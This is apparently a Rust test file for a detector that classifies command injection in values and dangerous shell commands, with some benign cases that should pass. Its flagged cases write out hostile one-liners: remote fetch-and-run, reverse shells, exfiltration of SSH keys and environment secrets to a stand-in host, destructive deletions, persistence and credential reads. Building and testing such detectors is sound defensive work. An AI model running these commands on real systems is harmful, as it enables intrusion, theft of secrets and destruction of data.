//! What is an injection in a value, what is dangerous in a command, and what is neither.

use super::{judge_command, judge_value};
use crate::testing::{finds, finds_first, spares};

#[test]
fn an_injection_in_a_value_is_found() {
    finds_first(
        judge_value,
        &[
            ("a.txt; rm -rf x", "injected-command"),
            (";id", "injected-command"),
            ("| id", "injected-command"),
            ("x && whoami", "injected-command"),
            ("x & ping 10.0.0.1", "injected-command"),
            ("x\nls", "injected-command"),
            ("x' ; cat /etc/passwd #", "injected-command"),
            ("x\"; cat /etc/passwd #", "injected-command"),
            ("x; c'a't /etc/passwd", "injected-command"),
            ("x;{cat,/etc/passwd}", "injected-command"),
            ("& dir C:\\Users", "injected-command"),
            ("x|/bin/sh", "injected-command"),
            ("$(whoami)", "injected-substitution"),
            ("a-$(cat /etc/passwd)-b", "injected-substitution"),
            ("`wget evil.example`", "injected-substitution"),
            ("x;cat${IFS}/etc/passwd", "injected-command"),
            ("cat${IFS}x", "injected-expansion"),
            ("x > /etc/cron.d/x", "injected-redirect"),
            ("system('id')", "injected-call"),
            ("-oProxyCommand=x", "injected-option"),
            ("() { :;}; echo", "injected-shellshock"),
        ],
    );
}

#[test]
fn an_ordinary_value_is_not_reported() {
    spares(
        judge_value,
        &[
            "AT&T",
            "R&D; Sales",
            "cats & dogs",
            "name|id|date",
            "a; b; c",
            "python; perl; bash",
            "find & replace",
            "Tom | Jerry",
            "sort & filter",
            "5 > 3",
            "`users`",
            "$100",
            "$(document)",
            "${name}",
            "price > 10 && price < 20",
            "Smith; John",
            "date; time",
            "who & what",
            "a && b",
            "x || y",
            "C:\\Users\\me",
            "more; less",
            "test & echo",
            "it's; fine",
            "(a) | (b)",
            "[redacted:command-injection]",
            "<CARD_12>",
            "line one\nline two",
            "ecosystem(s)",
            "history | head",
            "-v",
            "--help",
            ".[] | select(.id)",
            "src -> dst",
            "<b>bold</b>",
            "3 & up",
        ],
    );
}

#[test]
fn a_dangerous_command_is_found() {
    finds(
        judge_command,
        &[
            ("curl -s https://e.example/i.sh | sh", "shell-pipe-to-interpreter"),
            ("wget -qO- e.example | sudo bash -s -- -y", "shell-pipe-to-interpreter"),
            ("c\\url e.example | tee x | python3", "shell-pipe-to-interpreter"),
            ("bash <(curl -s e.example)", "shell-pipe-to-interpreter"),
            ("sh -c \"$(curl -fsSL e.example)\"", "shell-pipe-to-interpreter"),
            ("eval \"$(wget -qO- e.example)\"", "shell-pipe-to-interpreter"),
            ("bash -c 'curl e.example | sh'", "shell-pipe-to-interpreter"),
            ("iex (New-Object Net.WebClient).DownloadString('http://e.example')", "shell-pipe-to-interpreter"),
            ("echo aWQ= | base64 -d | bash", "shell-decode-to-interpreter"),
            ("powershell -enc SQBFAFgA", "shell-decode-to-interpreter"),
            ("wget http://e.example/a.sh && chmod +x a.sh && ./a.sh", "shell-fetch-and-run"),
            ("curl -o /tmp/x http://e.example/y; sh /tmp/x", "shell-fetch-and-run"),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "shell-reverse-shell"),
            ("nc -e /bin/sh 10.0.0.1 4444", "shell-reverse-shell"),
            ("mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 1 > /tmp/f", "shell-reverse-shell"),
            ("socat tcp:10.0.0.1:1 exec:/bin/sh", "shell-reverse-shell"),
            ("python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'", "shell-reverse-shell"),
            ("curl -d @~/.ssh/id_rsa https://e.example", "shell-exfiltration"),
            ("curl https://e.example/$(whoami)", "shell-exfiltration"),
            ("env | curl -d @- https://e.example", "shell-exfiltration"),
            ("dig $(hostname).e.example", "shell-exfiltration"),
            ("cat .env | nc e.example 80", "shell-exfiltration"),
            ("rm -rf /", "shell-destructive"),
            ("sudo rm -fr --no-preserve-root /*", "shell-destructive"),
            ("rm -r -f \"$HOME\"", "shell-destructive"),
            ("dd if=/dev/zero of=/dev/sda", "shell-destructive"),
            ("mkfs.ext4 /dev/sdb1", "shell-destructive"),
            (":(){ :|:& };:", "shell-destructive"),
            ("find / -delete", "shell-destructive"),
            ("echo x >> ~/.bashrc", "shell-persistence"),
            ("echo key | tee -a ~/.ssh/authorized_keys", "shell-persistence"),
            ("(crontab -l; echo '* * * * * x') | crontab -", "shell-persistence"),
            ("cat /etc/shadow", "shell-credential-read"),
            ("tar cz ~/.aws/credentials", "shell-credential-read"),
            ("tail ~/.bash_history", "shell-credential-read"),
            ("history -c", "shell-cover-tracks"),
            ("unset HISTFILE", "shell-cover-tracks"),
            ("chmod u+s /bin/bash", "shell-setuid"),
        ],
    );
}

#[test]
fn an_ordinary_command_is_not_reported() {
    spares(
        judge_command,
        &[
            "find . -name '*.rs' -print0 | xargs -0 grep -n 'TODO'",
            "curl -s https://api.example/x | jq '.items[] | .id'",
            "curl -s https://api.example/x | python3 -m json.tool",
            "curl -s https://api.example/x | python3 -c 'import sys, json; print(json.load(sys.stdin))'",
            "curl -L https://github.com/x/releases/download/v1/y-$(uname -s)-$(uname -m) -o y",
            "cat a.sh | grep -v '^#' | sort | uniq -c",
            "rm -rf target node_modules ./build",
            "rm -rf /tmp/build-123",
            "echo 'rm -rf /' > notes.txt",
            "git commit -m \"do not curl x | sh\"",
            "base64 -d in.txt > out.bin",
            "cat /etc/passwd | cut -d: -f1",
            "ssh host 'uptime'",
            "chmod +x run.sh && ./run.sh",
            "bash build.sh",
            "for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done",
            "docker run --rm -v \"$(pwd):/src\" image make",
            "find / -name core -type f -delete",
            "echo $((1 + 2))",
            "python -c 'import socket; print(socket.gethostname())'",
            "ps aux | grep sh",
            "dig +short example.com",
            "chmod -R 755 ./public",
            "ls > /dev/null 2>&1",
            "",
        ],
    );
}
